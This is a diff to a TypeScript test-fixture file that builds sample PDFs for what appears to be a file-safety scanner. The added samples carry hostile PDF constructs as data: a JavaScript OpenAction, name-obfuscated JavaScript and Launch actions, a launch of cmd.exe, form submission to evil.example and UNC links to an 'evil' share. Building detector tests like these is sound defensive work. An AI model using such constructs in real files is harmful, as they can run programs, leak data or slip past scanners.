@@ -1,7 +1,22 @@
 import { drawPdf } from '../src/demo/draw-pdf.ts'
 import { drawHouse, drawPng } from '../src/demo/draw-png.ts'
 import { archive, officeFile, officeParts } from './archives.ts'
-import { bytes, jpeg, mail, packedObjects, pdf, pdfWith, png, type Sample, streamObject, tiff } from './sample-files.ts'
+import {
+  bytes,
+  encryptedPdf,
+  jpeg,
+  mail,
+  manyPages,
+  packedObjects,
+  pdf,
+  pdfForm,
+  pdfLink,
+  pdfWith,
+  png,
+  type Sample,
+  streamObject,
+  tiff,
+} from './sample-files.ts'
 
 const text = (name: string, content: string | Buffer): Sample => ({ name, bytes: Buffer.from(content) })
 const manyLines = Array.from({ length: 120 }, (_, line) => `Line ${line} (with brackets) and a \\ backslash`)
@@ -34,7 +49,7 @@ const pdfs: Sample[] = [
   { name: 'long dictionary.pdf', bytes: pdfWith(`/Names [${'(entry) '.repeat(200_000)}]`) },
   {
     name: 'link.pdf',
-    bytes: pdfWith('', '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://seller.example) >> >>'),
+    bytes: pdfLink('/S /URI /URI (https://seller.example/Launch)'),
   },
   ...[
     ['link that spells a name', pdfWith('', '<< /S /URI /URI (https://seller.example/JS/JavaScript) >>')],
@@ -57,9 +72,35 @@ const pdfs: Sample[] = [
     ['line before', Buffer.concat([Buffer.from('\r\n@PJL JOB (scan\r\n'), pdf])],
     ['mark before', Buffer.concat([Buffer.from('\ufeff'), pdf])],
   ].map(([name, content]) => ({ name: `${name}.pdf`, bytes: Buffer.from(content ?? '') })),
+  { name: 'wrong count.pdf', bytes: manyPages(1, 2_000_000_000) },
   { name: 'form.pdf', bytes: pdfWith('/AcroForm << /Fields [] >>') },
   { name: 'after a mark.pdf', bytes: Buffer.concat([pdf, Buffer.from('\n\n')]) },
 ]
+
+const labelled: Sample[] = [
+  ['open script', pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'SCRIPTS'],
+  ['spelt script', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), 'SCRIPTS'],
+  ['packed script', pdfWith('', packedObjects('<< /S /JavaScript /JS (x) >>')), 'SCRIPTS'],
+  ['form with field scripts', pdfForm('/AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2\\)) >> >>'), 'SCRIPTS'],
+  ['film', pdfWith('', '<< /Subtype /RichMedia >>'), 'SCRIPTS'],
+  ['form that is submitted', pdfForm('/A << /S /SubmitForm /F (https://evil.example) >>'), 'OUTSIDE'],
+  ['attached', pdfWith('', streamObject('/Type /EmbeddedFile', Buffer.from('<xml/>'))), 'ATTACHMENTS'],
+  [
+    'attached by name',
+    pdfWith(
+      '/Names << /EmbeddedFiles << /Names [(a.xml) 4 0 R] >> >>',
+      '<< /F (a.xml) /EF << /F 5 0 R >> >>',
+      streamObject('', Buffer.from('x')),
+    ),
+    'ATTACHMENTS',
+  ],
+  ['launch', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'OUTSIDE'],
+  ['packed launch', pdfWith('', packedObjects('<< /S /L#61unch >>')), 'OUTSIDE'],
+  ['link to a share', pdfLink('/S /GoToR /F (\\\\\\\\evil\\\\a.pdf)'), 'OUTSIDE'],
+  ['link to a file', pdfLink('/S /URI /URI (file:///c:/a.pdf)'), 'OUTSIDE'],
+  ['address of a share', pdfLink('/S /URI /URI (\\\\\\\\evil\\\\a)'), 'OUTSIDE'],
+  ['encrypted without a password', encryptedPdf(''), 'RESTRICTED'],
+].map(([name, content, fact]) => ({ name: `${name}.pdf`, bytes: content, facts: [fact] }) as Sample)
 
 const pictures: Sample[] = [
   { name: 'a.png', bytes: png },
@@ -184,6 +225,7 @@ const odd = ['名前 書類.pdf', 'ملف.pdf', 'файл.pdf', '👩‍👩‍�
 /** Files that people really send, and that must pass. */
 export const harmlessFiles: Sample[] = [
   ...pdfs,
+  ...labelled,
   ...pictures,
   ...office,
   ...texts,
